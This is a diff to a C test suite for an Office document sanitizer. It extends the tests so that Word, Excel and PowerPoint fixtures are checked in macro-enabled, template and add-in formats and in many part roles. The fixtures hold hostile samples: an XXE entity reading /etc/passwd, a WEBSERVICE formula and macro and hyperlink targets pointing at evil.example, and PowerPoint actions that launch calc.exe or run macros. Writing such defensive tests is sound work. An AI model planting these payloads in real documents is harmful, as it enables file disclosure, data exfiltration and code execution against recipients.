@@ -323,31 +323,81 @@ static GBytes *package(GPtrArray *n, GPtrArray *d, const char *const (*extra)[2]
 	return z;
 }
 
-static GBytes *build_row(const struct row *r)
+/* Where a row's body goes (issue 13, item 9: Word scrubs by the part's
+ * role): NULL part = the main document; else a part of that role, reached
+ * from the main document by a relationship of type REL, its root element
+ * opened by OPEN and closed by CLOSE; the row's document relationships
+ * become that part's. */
+#define WNS "xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS "\""
+#define WML_CT "application/vnd.openxmlformats-officedocument.wordprocessingml."
+#define PLACE(stem, open, close, rel, ct) { "word/" stem ".xml", \
+	"word/_rels/" stem ".xml.rels", open, close, \
+	"<Relationship Id=\"rIdPlace\" Type=\"" R_NS "/" rel "\" Target=\"" stem ".xml\"/>", \
+	"<Override PartName=\"/word/" stem ".xml\" ContentType=\"" WML_CT ct "\"/>" }
+static const struct place {
+	const char *part, *rels, *open, *close, *rel, *override;
+} word_places[] = {
+	{ NULL, NULL, NULL, NULL, NULL, NULL },
+	PLACE("header1", "<w:hdr " WNS ">", "</w:hdr>", "header", "header+xml"),
+	PLACE("footer1", "<w:ftr " WNS ">", "</w:ftr>", "footer", "footer+xml"),
+	PLACE("footnotes", "<w:footnotes " WNS "><w:footnote w:id=\"1\">",
+	      "</w:footnote></w:footnotes>", "footnotes", "footnotes+xml"),
+	PLACE("endnotes", "<w:endnotes " WNS "><w:endnote w:id=\"1\">",
+	      "</w:endnote></w:endnotes>", "endnotes", "endnotes+xml"),
+	PLACE("comments", "<w:comments " WNS "><w:comment w:id=\"0\">",
+	      "</w:comment></w:comments>", "comments", "comments+xml"),
+	PLACE("glossary", "<w:glossaryDocument " WNS "><w:docParts><w:docPart>"
+	      "<w:docPartBody>", "</w:docPartBody></w:docPart></w:docParts>"
+	      "</w:glossaryDocument>", "glossaryDocument", "document.glossary+xml"),
+};
+
+#define RELS_OPEN "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+
+static GBytes *build_row_in(const struct row *r, const char *main_ct,
+                            const struct place *pl)
 {
 	GPtrArray *n = g_ptr_array_new();
 	GPtrArray *d = g_ptr_array_new_with_free_func((GDestroyNotify)g_bytes_unref);
-	const char *main_ct = r->main_ct ? r->main_ct : DOCX_T ".main+xml";
 	bool dtd = strcmp(r->name, "dtd") == 0;
+	const char *body = r->body ? r->body : "&x;";
+	const char *rels = r->doc_rels ? r->doc_rels : "";
 
 	g_ptr_array_add(n, "[Content_Types].xml");
 	g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
 	    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
 	    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
-	    "<Override PartName=\"/word/document.xml\" ContentType=\"%s\"/>%s</Types>",
-	    main_ct, r->overrides ? r->overrides : "")));
+	    "<Override PartName=\"/word/document.xml\" ContentType=\"%s\"/>%s%s</Types>",
+	    main_ct, r->overrides ? r->overrides : "",
+	    pl->override ? pl->override : "")));
 	g_ptr_array_add(n, "_rels/.rels");
-	g_ptr_array_add(d, str_bytes(g_strdup_printf("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
+	g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN
 	    "<Relationship Id=\"rId1\" Type=\"" R_NS "/officeDocument\" Target=\"word/document.xml\"/>%s</Relationships>",
 	    r->root_rels ? r->root_rels : "")));
 	g_ptr_array_add(n, "word/document.xml");
-	g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?>%s<w:document xmlns:w=\"" W_NS "\" xmlns:r=\"" R_NS "\"><w:body>%s</w:body></w:document>",
+	g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?>%s<w:document " WNS "><w:body>%s</w:body></w:document>",
 	    dtd ? "<!DOCTYPE w:document [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" : "",
-	    r->body ? r->body : "&x;")));
+	    pl->part ? "<w:p><w:r><w:t>main</w:t></w:r></w:p>" : body)));
 	g_ptr_array_add(n, "word/_rels/document.xml.rels");
-	g_ptr_array_add(d, str_bytes(g_strdup_printf("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">%s</Relationships>",
-	    r->doc_rels ? r->doc_rels : "")));
+	if (pl->part) {
+		g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN "%s</Relationships>",
+		    pl->rel)));
+		g_ptr_array_add(n, (gpointer)pl->part);
+		g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?>%s%s%s",
+		    pl->open, body, pl->close)));
+		g_ptr_array_add(n, (gpointer)pl->rels);
+		g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN "%s</Relationships>",
+		    rels)));
+	} else {
+		g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN "%s</Relationships>",
+		    rels)));
+	}
 	return package(n, d, r->extra, G_N_ELEMENTS(r->extra));
+}
+
+static GBytes *build_row(const struct row *r)
+{
+	return build_row_in(r, r->main_ct ? r->main_ct : DOCX_T ".main+xml",
+	                    &word_places[0]);
 }
 
 static int run(GBytes *in, GBytes **out, char **type, GPtrArray *notes,
@@ -384,22 +434,26 @@ static void check_again(GBytes *out, const char *type)
 	g_ptr_array_unref(notes);
 }
 
-START_TEST(test_rows)
+/* Row R's package IN (consumed) must come out as OUT_TYPE with the row's
+ * strings gone and kept; WHERE names the variant in messages.  A row
+ * without a note may have the type change's note when MACRO is set. */
+static void check_row(const struct row *r, GBytes *in, const char *out_type,
+                      const char *where, bool macro)
 {
-	const struct row *r = &rows[_i];
-	GBytes *in = build_row(r), *out = NULL;
+	GBytes *out = NULL;
 	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
 	mk_error err = { 0 };
 	char *type = NULL;
 	int rc = run(in, &out, &type, notes, &err);
 
-	ck_assert_msg(rc == r->rc, "%s: rc %d (%s)", r->name, rc, err.msg);
+	ck_assert_msg(rc == r->rc, "%s %s: rc %d (%s)", r->name, where, rc, err.msg);
 	if (rc == 0) {
 		GHashTable *h = unzip_all(out);
-		ck_assert_str_eq(type, DOCX_T);
+		ck_assert_msg(strcmp(type, out_type) == 0, "%s %s: type %s", r->name,
+		              where, type);
 		for (int k = 0; k < 3 && r->gone[k]; k++) {
-			ck_assert_msg(!any_contains(h, r->gone[k], true), "%s: part %s",
-			              r->name, r->gone[k]);
+			ck_assert_msg(!any_contains(h, r->gone[k], true), "%s %s: part %s",
+			              r->name, where, r->gone[k]);
 			GString *all = g_string_new(NULL);
 			GHashTableIter it;
 			gpointer key, v;
@@ -412,18 +466,21 @@ START_TEST(test_rows)
 			for (gsize j = 0; j < all->len; j++)
 				low[j] = g_ascii_tolower(low[j]);
 			ck_assert_msg(!memmem(low, all->len, r->gone[k],
-			                      strlen(r->gone[k])), "%s: %s left",
-			              r->name, r->gone[k]);
+			                      strlen(r->gone[k])), "%s %s: %s left",
+			              r->name, where, r->gone[k]);
 			g_free(low);
 			g_string_free(all, TRUE);
 		}
-		ck_assert_msg(any_contains(h, r->kept, false), "%s: lost %s",
-		              r->name, r->kept);
+		ck_assert_msg(any_contains(h, r->kept, false), "%s %s: lost %s",
+		              r->name, where, r->kept);
 		if (r->note)
-			ck_assert_msg(notes_have(notes, r->note), "%s: no note %s",
-			              r->name, r->note);
+			ck_assert_msg(notes_have(notes, r->note), "%s %s: no note %s",
+			              r->name, where, r->note);
 		else
-			ck_assert_uint_eq(notes->len, 0);
+			ck_assert_msg(notes->len == 0 || (macro && notes->len == 1 &&
+			              notes_have(notes, "macro-free type")),
+			              "%s %s: note %s", r->name, where,
+			              (char *)notes->pdata[0]);
 		check_again(out, type);
 		g_hash_table_destroy(h);
 	}
@@ -432,6 +489,38 @@ START_TEST(test_rows)
 		g_bytes_unref(out);
 	g_free(type);
 	g_ptr_array_unref(notes);
+}
+
+START_TEST(test_rows)
+{
+	check_row(&rows[_i], build_row(&rows[_i]), DOCX_T, "docx", false);
+}
+END_TEST
+
+/* Every Word row in every sibling format (macro-enabled, template) and in
+ * every part role (issue 13, item 9): a docm's main part used to keep its
+ * DDE fields.  Rows that must fail are checked once, by test_rows. */
+#define DOTX_T "application/vnd.openxmlformats-officedocument.wordprocessingml.template"
+static const struct variant { const char *ext, *main_ct, *out_type; } word_variants[] = {
+	{ "docx", DOCX_T ".main+xml", DOCX_T },
+	{ "docm", DOCM_MAIN, DOCX_T },
+	{ "dotx", DOTX_T ".main+xml", DOTX_T },
+	{ "dotm", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml", DOTX_T },
+};
+
+START_TEST(test_word_matrix)
+{
+	gsize np = G_N_ELEMENTS(word_places), nv = G_N_ELEMENTS(word_variants);
+	const struct row *r = &rows[_i / (np * nv)];
+	const struct variant *v = &word_variants[_i / np % nv];
+	const struct place *pl = &word_places[_i % np];
+	char where[64];
+
+	if (r->rc != 0)
+		return;
+	g_snprintf(where, sizeof where, "%s/%s", v->ext, pl->part ? pl->part : "main");
+	check_row(r, build_row_in(r, v->main_ct, pl), v->out_type, where,
+	          strstr(v->main_ct, "macroEnabled") != NULL);
 }
 END_TEST
 
@@ -500,6 +589,13 @@ static const struct xrow {
 	  { { "xl/drawings/drawing1.xml", "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\"><xdr:sp macro=\"'\\\\evil.example\\s\\x.xlsm'!Module1.Run\" textlink=\"\"><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"Button\"/></xdr:nvSpPr></xdr:sp></xdr:wsDr>" },
 	    { "xl/drawings/vmlDrawing1.vml", "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape><x:ClientData ObjectType=\"Button\"><x:FmlaMacro>[0]!Evil</x:FmlaMacro><x:FmlaLink>[1]Sheet1!A1</x:FmlaLink><x:TextHAlign>Center</x:TextHAlign></x:ClientData></v:shape></xml>" } },
 	  { "evil.example", "fmla", "macro=" }, "x:TextHAlign", "link/macro" },
+	/* a table column's formula is a formula too */
+	{ "table-formula",
+	  "<Override PartName=\"/xl/tables/table1.xml\" ContentType=\"" SML "table+xml\"/>",
+	  NULL, NULL, NULL, NULL,
+	  { { "xl/tables/table1.xml", "<table xmlns=\"" S_NS "\" id=\"1\" name=\"T\" ref=\"A1:A2\"><tableColumns count=\"1\"><tableColumn id=\"1\" name=\"C\">"
+	      "<calculatedColumnFormula>_xlfn.WEBSERVICE(\"http://evil.example/\")</calculatedColumnFormula></tableColumn></tableColumns></table>" } },
+	  { "evil.example", "calculatedcolumnformula" }, "tableColumn", "formula" },
 	/* harmless formulas stay, also with a denied name inside a string */
 	{ "safe-formula", NULL, NULL,
 	  "<definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">Sheet1!$A$1:$B$2</definedName></definedNames>",
@@ -507,7 +603,7 @@ static const struct xrow {
 	  { { NULL } }, { NULL }, "SUM(A2:A3)+LEN(", NULL },
 };
 
-static GBytes *build_xrow(const struct xrow *r)
+static GBytes *build_xrow_as(const struct xrow *r, const char *main_ct)
 {
 	GPtrArray *n = g_ptr_array_new();
 	GPtrArray *d = g_ptr_array_new_with_free_func((GDestroyNotify)g_bytes_unref);
@@ -516,9 +612,9 @@ static GBytes *build_xrow(const struct xrow *r)
 	g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
 	    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
 	    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
-	    "<Override PartName=\"/xl/workbook.xml\" ContentType=\"" SML "sheet.main+xml\"/>"
+	    "<Override PartName=\"/xl/workbook.xml\" ContentType=\"%s\"/>"
 	    "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"" SML "worksheet+xml\"/>%s</Types>",
-	    r->overrides ? r->overrides : "")));
+	    main_ct, r->overrides ? r->overrides : "")));
 	g_ptr_array_add(n, "_rels/.rels");
 	g_ptr_array_add(d, str_bytes(g_strdup("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
 	    "<Relationship Id=\"rId1\" Type=\"" R_NS "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>")));
@@ -535,39 +631,195 @@ static GBytes *build_xrow(const struct xrow *r)
 	return package(n, d, r->extra, G_N_ELEMENTS(r->extra));
 }
 
+/* Every xlsx row as a workbook of each sibling format (issue 13, item 9):
+ * an xlsm's workbook is "application/vnd.ms-excel.sheet.macroEnabled.
+ * main+xml" and used to keep its defined names; an add-in had no main
+ * part the filter knew. */
+#define XLTX_T "application/vnd.openxmlformats-officedocument.spreadsheetml.template"
+static const struct variant xl_variants[] = {
+	{ "xlsx", SML "sheet.main+xml", XLSX_T },
+	{ "xlsm", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", XLSX_T },
+	{ "xltx", SML "template.main+xml", XLTX_T },
+	{ "xltm", "application/vnd.ms-excel.template.macroEnabled.main+xml", XLTX_T },
+	{ "xlam", "application/vnd.ms-excel.addin.macroEnabled.main+xml", XLSX_T },
+};
+
+static void check_xrow(const struct xrow *r, const struct variant *v)
+{
+	GBytes *in = build_xrow_as(r, v->main_ct), *out = NULL;
+	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
+	mk_error err = { 0 };
+	char *type = NULL;
+	bool macro = strstr(v->main_ct, "macroEnabled") != NULL;
+
+	ck_assert_msg(run(in, &out, &type, notes, &err) == 0, "%s %s: %s", r->name,
+	              v->ext, err.msg);
+	ck_assert_msg(strcmp(type, v->out_type) == 0, "%s %s: type %s", r->name,
+	              v->ext, type);
+	GHashTable *h = unzip_all(out);
+	for (int k = 0; k < 3 && r->gone[k]; k++) {
+		ck_assert_msg(!any_contains(h, r->gone[k], true), "%s %s: part %s",
+		              r->name, v->ext, r->gone[k]);
+		GHashTableIter it;
+		gpointer key, val;
+		g_hash_table_iter_init(&it, h);
+		while (g_hash_table_iter_next(&it, &key, &val)) {
+			char *low = g_ascii_strdown(((GString *)val)->str, -1);
+			ck_assert_msg(!strstr(low, r->gone[k]), "%s %s: %s left in %s",
+			              r->name, v->ext, r->gone[k], (char *)key);
+			g_free(low);
+		}
+	}
+	ck_assert_msg(any_contains(h, r->kept, false), "%s %s: lost %s", r->name,
+	              v->ext, r->kept);
+	if (r->note)
+		ck_assert_msg(notes_have(notes, r->note), "%s %s: no note %s", r->name,
+		              v->ext, r->note);
+	else
+		ck_assert_msg(notes->len == 0 || (macro && notes->len == 1 &&
+		              notes_have(notes, "macro-free type")), "%s %s: note %s",
+		              r->name, v->ext, (char *)notes->pdata[0]);
+	check_again(out, type);
+	g_hash_table_destroy(h);
+	g_bytes_unref(out);
+	g_bytes_unref(in);
+	g_free(type);
+	g_ptr_array_unref(notes);
+}
+
 START_TEST(test_xlsx)
 {
-	const struct xrow *r = &xrows[_i];
-	GBytes *in = build_xrow(r), *out = NULL;
+	check_xrow(&xrows[_i / G_N_ELEMENTS(xl_variants)],
+	           &xl_variants[_i % G_N_ELEMENTS(xl_variants)]);
+}
+END_TEST
+
+/* ---- PowerPoint: every row in every sibling format and part role ---- */
+
+#define PML "application/vnd.openxmlformats-officedocument.presentationml."
+#define P_NS "http://schemas.openxmlformats.org/presentationml/2006/main"
+#define A_NS "http://schemas.openxmlformats.org/drawingml/2006/main"
+#define PNS "xmlns:p=\"" P_NS "\" xmlns:a=\"" A_NS "\" xmlns:r=\"" R_NS "\""
+#define SHAPE(attrs) "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"Btn\">" attrs \
+	"</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>"
+
+static const struct prow {
+	const char *name;
+	const char *overrides, *part_rels, *root_rels, *shapes;
+	const char *extra[2][2];
+	const char *gone[3], *kept, *note;
+} prows[] = {
+	{ "action-macro", NULL, NULL, NULL,
+	  SHAPE("<a:hlinkClick r:id=\"\" action=\"ppaction://macro?name=Evil\"/>"),
+	  { { NULL } }, { "ppaction://macro", "evil" }, "name=\"Btn\"", "link/macro" },
+	{ "action-program", NULL,
+	  "<Relationship Id=\"rId5\" Type=\"" R_NS "/hyperlink\" Target=\"file:///c:/windows/system32/calc.exe\" TargetMode=\"External\"/>",
+	  NULL, SHAPE("<a:hlinkClick r:id=\"rId5\" action=\"ppaction://program\"/>"),
+	  { { NULL } }, { "ppaction://program", "calc.exe" }, "name=\"Btn\"", "link/macro" },
+	{ "external-hyperlink", NULL,
+	  "<Relationship Id=\"rId4\" Type=\"" R_NS "/hyperlink\" Target=\"http://evil.example/\" TargetMode=\"External\"/>",
+	  NULL, SHAPE("<a:hlinkClick r:id=\"rId4\"/>"),
+	  { { NULL } }, { "evil.example", "rid4" }, "name=\"Btn\"", "external relationship" },
+	{ "ole-object",
+	  "<Override PartName=\"/ppt/embeddings/oleObject1.bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>",
+	  "<Relationship Id=\"rId7\" Type=\"" R_NS "/oleObject\" Target=\"embeddings/oleObject1.bin\"/>",
+	  NULL, "<p:graphicFrame><a:graphic><a:graphicData><p:oleObj progId=\"Package\" r:id=\"rId7\"/></a:graphicData></a:graphic></p:graphicFrame>" SHAPE(""),
+	  { { "ppt/embeddings/oleObject1.bin", "OLE" } }, { "oleobject", "oleobj" }, "name=\"Btn\"", "oleObject1.bin" },
+	{ "activex-control",
+	  "<Override PartName=\"/ppt/activeX/activeX1.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>",
+	  "<Relationship Id=\"rId8\" Type=\"" R_NS "/control\" Target=\"activeX/activeX1.xml\"/>",
+	  NULL, "<p:controls><p:control name=\"X\" r:id=\"rId8\"/></p:controls>" SHAPE(""),
+	  { { "ppt/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"urn:x\"/>" } },
+	  { "activex", "p:control" }, "name=\"Btn\"", "activeX1.xml" },
+	{ "vbaproject", "<Override PartName=\"/ppt/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>",
+	  NULL, NULL, SHAPE(""), { { "ppt/vbaProject.bin", "VBA\x01" } },
+	  { "vbaproject" }, "name=\"Btn\"", "vbaProject.bin" },
+};
+
+#define PPLACE(stem, root, rel, ct) { "ppt/" stem ".xml", "ppt/_rels/" stem ".xml.rels", \
+	"<p:" root " " PNS "><p:cSld><p:spTree>", "</p:spTree></p:cSld></p:" root ">", \
+	"<Relationship Id=\"rIdPlace\" Type=\"" R_NS "/" rel "\" Target=\"" stem ".xml\"/>", \
+	"<Override PartName=\"/ppt/" stem ".xml\" ContentType=\"" PML ct "\"/>" }
+static const struct place ppt_places[] = {
+	PPLACE("slide1", "sld", "slide", "slide+xml"),
+	PPLACE("slideLayout1", "sldLayout", "slideLayout", "slideLayout+xml"),
+	PPLACE("slideMaster1", "sldMaster", "slideMaster", "slideMaster+xml"),
+	PPLACE("notesSlide1", "notes", "notesSlide", "notesSlide+xml"),
+};
+
+#define PPTX_T "application/vnd.openxmlformats-officedocument.presentationml.presentation"
+static const struct variant ppt_variants[] = {
+	{ "pptx", PML "presentation.main+xml", PPTX_T },
+	{ "pptm", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", PPTX_T },
+	{ "potx", PML "template.main+xml", PML "template" },
+	{ "potm", "application/vnd.ms-powerpoint.template.macroEnabled.main+xml", PML "template" },
+	{ "ppsx", PML "slideshow.main+xml", PML "slideshow" },
+	{ "ppsm", "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml", PML "slideshow" },
+	{ "ppam", "application/vnd.ms-powerpoint.addin.macroEnabled.main+xml", PPTX_T },
+};
+
+static GBytes *build_prow(const struct prow *r, const struct variant *v,
+                          const struct place *pl)
+{
+	GPtrArray *n = g_ptr_array_new();
+	GPtrArray *d = g_ptr_array_new_with_free_func((GDestroyNotify)g_bytes_unref);
+	bool vba = strcmp(r->name, "vbaproject") == 0;
+
+	g_ptr_array_add(n, "[Content_Types].xml");
+	g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
+	    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+	    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
+	    "<Override PartName=\"/ppt/presentation.xml\" ContentType=\"%s\"/>%s%s</Types>",
+	    v->main_ct, pl->override, r->overrides ? r->overrides : "")));
+	g_ptr_array_add(n, "_rels/.rels");
+	g_ptr_array_add(d, str_bytes(g_strdup(RELS_OPEN "<Relationship Id=\"rId1\" Type=\""
+	    R_NS "/officeDocument\" Target=\"ppt/presentation.xml\"/></Relationships>")));
+	g_ptr_array_add(n, "ppt/presentation.xml");
+	g_ptr_array_add(d, str_bytes(g_strdup("<p:presentation " PNS "><p:sldIdLst/></p:presentation>")));
+	g_ptr_array_add(n, "ppt/_rels/presentation.xml.rels");
+	g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN "%s%s</Relationships>", pl->rel,
+	    vba ? "<Relationship Id=\"rIdV\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>" : "")));
+	g_ptr_array_add(n, (gpointer)pl->part);
+	g_ptr_array_add(d, str_bytes(g_strdup_printf("%s%s%s", pl->open, r->shapes, pl->close)));
+	g_ptr_array_add(n, (gpointer)pl->rels);
+	g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN "%s</Relationships>",
+	    r->part_rels ? r->part_rels : "")));
+	return package(n, d, r->extra, G_N_ELEMENTS(r->extra));
+}
+
+START_TEST(test_ppt_matrix)
+{
+	gsize np = G_N_ELEMENTS(ppt_places), nv = G_N_ELEMENTS(ppt_variants);
+	const struct prow *r = &prows[_i / (np * nv)];
+	const struct variant *v = &ppt_variants[_i / np % nv];
+	const struct place *pl = &ppt_places[_i % np];
+	GBytes *in = build_prow(r, v, pl), *out = NULL;
 	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
 	mk_error err = { 0 };
 	char *type = NULL;
 
-	ck_assert_msg(run(in, &out, &type, notes, &err) == 0, "%s: %s", r->name,
-	              err.msg);
-	ck_assert_str_eq(type, XLSX_T);
+	ck_assert_msg(run(in, &out, &type, notes, &err) == 0, "%s %s %s: %s",
+	              r->name, v->ext, pl->part, err.msg);
+	ck_assert_msg(strcmp(type, v->out_type) == 0, "%s %s: type %s", r->name,
+	              v->ext, type);
 	GHashTable *h = unzip_all(out);
 	for (int k = 0; k < 3 && r->gone[k]; k++) {
-		ck_assert_msg(!any_contains(h, r->gone[k], true), "%s: part %s",
-		              r->name, r->gone[k]);
 		GHashTableIter it;
-		gpointer key, v;
+		gpointer key, val;
+		ck_assert_msg(!any_contains(h, r->gone[k], true), "%s %s: part %s",
+		              r->name, v->ext, r->gone[k]);
 		g_hash_table_iter_init(&it, h);
-		while (g_hash_table_iter_next(&it, &key, &v)) {
-			char *low = g_ascii_strdown(((GString *)v)->str, -1);
-			ck_assert_msg(!strstr(low, r->gone[k]), "%s: %s left in %s",
-			              r->name, r->gone[k], (char *)key);
+		while (g_hash_table_iter_next(&it, &key, &val)) {
+			char *low = g_ascii_strdown(((GString *)val)->str, -1);
+			ck_assert_msg(!strstr(low, r->gone[k]), "%s %s %s: %s left in %s",
+			              r->name, v->ext, pl->part, r->gone[k], (char *)key);
 			g_free(low);
 		}
 	}
-	ck_assert_msg(any_contains(h, r->kept, false), "%s: lost %s", r->name,
-	              r->kept);
-	if (r->note)
-		ck_assert_msg(notes_have(notes, r->note), "%s: no note %s", r->name,
-		              r->note);
-	else
-		ck_assert_msg(notes->len == 0, "%s: note %s", r->name,
-		              (char *)notes->pdata[0]);
+	ck_assert_msg(any_contains(h, r->kept, false), "%s %s: lost %s", r->name,
+	              v->ext, r->kept);
+	ck_assert_msg(notes_have(notes, r->note), "%s %s: no note %s", r->name,
+	              v->ext, r->note);
 	check_again(out, type);
 	g_hash_table_destroy(h);
 	g_bytes_unref(out);
@@ -727,7 +979,12 @@ int main(void)
 	Suite *s = suite_create("ooxml");
 	TCase *tc = tcase_create("ooxml");
 	tcase_add_loop_test(tc, test_rows, 0, G_N_ELEMENTS(rows));
-	tcase_add_loop_test(tc, test_xlsx, 0, G_N_ELEMENTS(xrows));
+	tcase_add_loop_test(tc, test_word_matrix, 0, G_N_ELEMENTS(rows) *
+	                    G_N_ELEMENTS(word_variants) * G_N_ELEMENTS(word_places));
+	tcase_add_loop_test(tc, test_xlsx, 0, G_N_ELEMENTS(xrows) *
+	                    G_N_ELEMENTS(xl_variants));
+	tcase_add_loop_test(tc, test_ppt_matrix, 0, G_N_ELEMENTS(prows) *
+	                    G_N_ELEMENTS(ppt_variants) * G_N_ELEMENTS(ppt_places));
 	tcase_add_loop_test(tc, test_not_ooxml, 0, 2);
 	tcase_add_test(tc, test_bad_name);
 	tcase_add_loop_test(tc, test_samples, 0, G_N_ELEMENTS(samples));
